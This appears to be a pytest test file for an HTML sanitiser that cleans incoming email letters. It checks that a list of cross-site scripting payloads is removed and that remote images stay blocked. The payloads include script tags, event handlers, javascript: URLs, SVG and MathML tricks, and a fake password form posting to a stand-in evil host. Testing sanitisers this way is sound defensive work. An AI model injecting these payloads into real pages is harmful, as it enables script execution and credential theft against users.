"""HTML of strangers is made safe: each way of acting is planted, and is gone."""

import re
from html import unescape

import pytest

from opora.lib.safe_html import clean

BAD = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example.org/x.js></SCRIPT>",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "onclick": '<p onclick="alert(1)">абзац</p>',
    "onerror": '<img src=x onerror="alert(1)">',
    "style": '<p style="position:fixed;inset:0;background:url(http://evil.example.org)">абзац</p>',
    "style sheet": "<style>body{display:none}</style>",
    "class and id": '<p class="rail" id="main">абзац</p>',
    "form": '<form action="https://evil.example.org"><input name="password"><button>Войти</button></form>',
    "iframe": '<iframe src="https://evil.example.org"></iframe>',
    "object": '<object data="x.swf"></object><embed src="x">',
    "javascript": '<a href="javascript:alert(1)">ссылка</a>',
    "javascript hidden": '<a href="java&#10;script:alert(1)">ссылка</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">ссылка</a>',
    "svg": '<svg onload="alert(1)"><animate onbegin="alert(1)"></svg>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example.org"><base href="https://evil.example.org">',
    "link": '<link rel="stylesheet" href="https://evil.example.org/x.css">',
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><script>alert(1)</script>">',
}
TAG = re.compile(r"<[^>]*>?")
ACTING = re.compile(
    r"<\s*(script|style|form|input|button|iframe|object|embed|svg|math|meta|base|link|template|noscript|!--)\b|<!--|"
    r"\son\w+\s*=|\b(style|class|id|src)\s*=|(java\s*script|data)\s*:",
    re.IGNORECASE,
)


def acts(html: str) -> bool:
    """Whether something in the tags of this HTML does more than lay out words."""
    return any(ACTING.search(unescape(tag)) for tag in TAG.findall(html))


@pytest.mark.parametrize("bad", BAD.values(), ids=BAD.keys())
def test_what_acts_is_gone(bad: str) -> None:
    assert acts(bad)
    safe = clean(f"<p>Начало</p>{bad}<p>Конец</p>").html
    assert "<p>Начало</p>" in safe
    assert not acts(safe)


@pytest.mark.parametrize(
    "good", ["<p>onclick=1</p>", "<b>script</b>", "src= data: style=", '<a href="https://a.test">a</a>']
)
def test_words_about_it_are_no_crime(good: str) -> None:
    assert not acts(good)


def test_images_from_elsewhere_are_counted_and_keep_their_words() -> None:
    safe = clean('<img src="http://evil.example.org/1.gif" alt="чертёж"><img src="cid:lost"><img alt="без адреса">')
    assert safe.images == 2
    assert "src" not in safe.html
    assert 'alt="чертёж"' in safe.html


def test_words_outside_tags_are_kept_as_words() -> None:
    assert clean("1 < 2 & 3 > 2").html == "1 &lt; 2 &amp; 3 &gt; 2"


def test_what_is_nested_without_end_is_survived() -> None:
    assert "x" in clean("<div>" * 3000 + "x").html


OWN = {"drawing@gear": "/files/one/"}


def test_an_image_that_came_with_the_letter_is_fetched_from_us() -> None:
    safe = clean('<img src="CID:drawing%40gear" alt="узел"><img src="cid:other">', OWN)
    assert '<img src="/files/one/" alt="узел">' in safe.html
    # The other one came with no letter.
    assert (safe.images, safe.remote, safe.html.count("src=")) == (1, 0, 1)


@pytest.mark.parametrize(
    "where", ["/files/one/", "//evil.test/a", "files/one/", "data:image/png;base64,AA", "drawing@gear"]
)
def test_a_letter_names_no_address_of_ours_by_itself(where: str) -> None:
    assert "src" not in clean(f'<img src="{where}">', OWN, remote=True).html


def test_images_from_elsewhere_are_off_until_asked() -> None:
    letter = '<img src="https://pictures.test/a.png"><img src="http://pictures.test/b.png">'
    off = clean(letter, OWN)
    assert ("src" in off.html, off.images, off.remote) == (False, 2, 1)
    asked = clean(letter, OWN, remote=True)
    # Over a line that everybody reads, never.
    assert ('src="https://pictures.test/a.png"' in asked.html, asked.images, asked.remote) == (True, 1, 0)
    assert "b.png" not in asked.html


def test_a_link_to_a_part_of_the_letter_leads_nowhere() -> None:
    assert "cid:" not in clean('<a href="cid:drawing@gear">файл</a>', OWN, remote=True).html
